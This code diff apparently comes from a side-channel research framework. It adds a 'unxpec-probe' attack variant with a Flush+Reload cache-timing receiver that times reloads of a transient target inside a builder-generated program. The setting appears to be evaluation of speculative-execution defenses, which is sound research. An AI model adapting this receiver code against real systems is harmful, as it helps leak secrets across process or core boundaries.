@@ -56,6 +56,11 @@ unxpecVariants()
         {"unxpec-fast",
          "short POISON loop (8 mistrainings): maximum sample rate",
          [](UnxpecConfig &cfg) { cfg.mistrainIterations = 8; }},
+        {"unxpec-probe",
+         "rollback timing plus a Flush+Reload persistence tail: the "
+         "matrix's cache-state receiver (also reads the unsafe "
+         "baseline's persistent installs)",
+         [](UnxpecConfig &cfg) { cfg.probePersistence = true; }},
         {"unxpec-xcore",
          "cross-core variant: a receiver core times coherence "
          "downgrades of the sender's transient install (needs "
@@ -194,6 +199,22 @@ UnxpecAttack::buildProgram()
     b.bind(skip);
     b.rdtscp(rT1);
     b.sub(rDelta, rT1, rT0);
+
+    if (cfg_.probePersistence) {
+        // Flush+Reload tail: reload the k=1 transient target and fold
+        // the reload time in; next round's clflush of P[64*k] resets
+        // the probe. The address is chained off the serializing t2
+        // read (t2 ^ t2 = 0) — the skip path is also the transient
+        // body's fall-through, so an unchained reload would issue
+        // inside the window and warm its own target in both classes.
+        b.rdtscp(rTmp2);
+        b.xor_(rTmp4, rTmp2, rTmp2);
+        b.add(rTmp4, rTmp4, rP);
+        b.load(rTmp4, rTmp4, kLineBytes);
+        b.rdtscp(rPtr);
+        b.sub(rTmp4, rPtr, rTmp2);
+        b.add(rDelta, rDelta, rTmp4);
+    }
 
     // Record latency and t0 for this trial.
     b.shl(rTmp5, rTrial, 3);
